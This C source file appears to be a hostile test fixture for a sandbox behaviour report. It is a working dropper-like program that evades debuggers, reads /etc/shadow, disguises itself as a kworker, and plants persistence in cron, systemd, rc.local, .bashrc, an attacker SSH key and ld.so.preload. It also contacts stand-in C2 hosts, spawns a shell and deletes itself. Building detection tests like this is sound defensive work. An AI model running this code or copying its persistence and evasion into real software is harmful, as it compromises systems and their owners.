/* hostile: a dropper-like sample for the behaviour report (tests/test_report.py).
 * NEVER run it natively: it writes under /etc, /root and /var/spool, and deletes itself.
 * Each step below is one behaviour the report must list:
 *   anti-debugging  ptrace(PTRACE_TRACEME), /proc/self/status read for TracerPid, rdtsc timing,
 *                   a clock read around a sleep
 *   privilege       setuid(0), /etc/shadow read
 *   masquerading    prctl(PR_SET_NAME, "kworker/0:1"), argv[0] rewritten in place
 *   persistence     cron, systemd unit, rc.local, .bashrc, authorized_keys, ld.so.preload
 *   dynamic code    an anonymous RW page written with code, then made RX, and called; an RWX map
 *   network         TCP connect to 203.0.113.7:4444 (denied by the sandbox), a UDP DNS query
 *   dns             getaddrinfo("c2.example.net"), gethostbyname("update.example.org")
 *   strings         strcmp against a configuration key; a C2 URL left in memory at exit
 *   processes       fork + execve("/bin/sh", "-c", "id") and a failed execve of a missing file
 *   signals         kill(self, SIGUSR1) with a handler
 *   self-deletion   unlink(argv[0]'s executable)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <x86intrin.h>

static const char C2_URL[] = "http://c2.example.net:8080/gate.php";
static char *volatile keep;                 /* the C2 URL copied to the heap, kept to exit */

static void drop(const char *path, const char *text, mode_t mode)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (fd >= 0) {
        write(fd, text, strlen(text));
        close(fd);
    }
}

static void append(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        write(fd, text, strlen(text));
        close(fd);
    }
}

static volatile int got_usr1;
static void on_usr1(int sig) { (void)sig; got_usr1 = 1; }

int main(int argc, char **argv)
{
    (void)argc;
    char buf[4096];
    /* anti-debugging */
    if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0)
        puts("traced");
    int fd = open("/proc/self/status", O_RDONLY);
    if (fd >= 0) {
        ssize_t n = read(fd, buf, sizeof buf - 1);
        buf[n > 0 ? n : 0] = 0;
        if (strstr(buf, "TracerPid:\t0") == NULL)
            puts("debugger");
        close(fd);
    }
    unsigned long long t0 = __rdtsc();
    unsigned long long t1 = __rdtsc();
    if (t1 - t0 > 1000000)
        puts("slow");
    struct timespec c0, c1, nap = {0, 1000000};
    clock_gettime(CLOCK_MONOTONIC, &c0);
    nanosleep(&nap, NULL);
    clock_gettime(CLOCK_MONOTONIC, &c1);
    if (c1.tv_sec == c0.tv_sec && c1.tv_nsec - c0.tv_nsec < 1000000)
        puts("sleep skipped");

    /* privilege probes */
    if (setuid(0) != 0)
        puts("no setuid");
    fd = open("/etc/shadow", O_RDONLY);
    if (fd >= 0) {
        read(fd, buf, sizeof buf);
        close(fd);
    }

    /* masquerading */
    prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0);
    char self[256];
    snprintf(self, sizeof self, "%s", argv[0]);
    size_t len0 = strlen(argv[0]);
    memset(argv[0], 0, len0);
    memcpy(argv[0], "[kworker]", len0 < 9 ? len0 : 9);

    /* configuration compare: strings the report shows */
    const char *key = getenv("DROPPER_KEY");
    if (key && strcmp(key, "s3cr3t-k3y") == 0)
        puts("keyed");
    keep = strdup(C2_URL);

    /* persistence */
    mkdir("/var/spool/cron", 0755);
    mkdir("/var/spool/cron/crontabs", 0700);
    drop("/var/spool/cron/crontabs/root", "* * * * * /tmp/.x/agent\n", 0600);
    drop("/etc/systemd/system/agent.service",
         "[Unit]\nDescription=agent\n[Service]\nExecStart=/tmp/.x/agent\n[Install]\nWantedBy=multi-user.target\n",
         0644);
    append("/etc/rc.local", "/tmp/.x/agent &\n");
    append("/root/.bashrc", "(/tmp/.x/agent &)\n");
    mkdir("/root/.ssh", 0700);
    append("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDropperKey attacker@c2\n");
    drop("/etc/ld.so.preload", "/tmp/.x/libhide.so\n", 0644);
    mkdir("/tmp/.x", 0755);
    drop("/tmp/.x/agent", "#!/bin/sh\nexec sleep 1000\n", 0755);
    rename("/tmp/.x/agent", "/tmp/.x/agentd");

    /* dynamic code: write, then make executable, then run it */
    unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page != MAP_FAILED) {
        static const unsigned char code[] = {0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3};   /* mov eax,42; ret */
        memcpy(page, code, sizeof code);
        if (mprotect(page, 4096, PROT_READ | PROT_EXEC) == 0) {
            int (*fn)(void) = (int (*)(void))page;
            printf("code says %d\n", fn());
        }
    }
    void *rwx = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    (void)rwx;

    /* network */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(4444)};
    inet_pton(AF_INET, "203.0.113.7", &sin.sin_addr);
    connect(s, (struct sockaddr *)&sin, sizeof sin);
    static const unsigned char query[] = {
        0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
        3, 'c', 'n', 'c', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0,
        0x00, 0x01, 0x00, 0x01};
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in ns = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "8.8.8.8", &ns.sin_addr);
    sendto(u, query, sizeof query, 0, (struct sockaddr *)&ns, sizeof ns);
    struct addrinfo *ai = NULL;
    if (getaddrinfo("c2.example.net", "8080", NULL, &ai) == 0)
        freeaddrinfo(ai);
    gethostbyname("update.example.org");

    /* processes */
    pid_t pid = fork();
    if (pid == 0) {
        execl("/nonexistent/payload", "payload", (char *)NULL);
        execl("/bin/sh", "sh", "-c", "id", (char *)NULL);
        _exit(127);
    }
    int status = 0;
    waitpid(pid, &status, 0);

    /* signals */
    signal(SIGUSR1, on_usr1);
    kill(getpid(), SIGUSR1);

    /* self-deletion */
    unlink(self);
    printf("done %d\n", got_usr1);
    return 0;
}
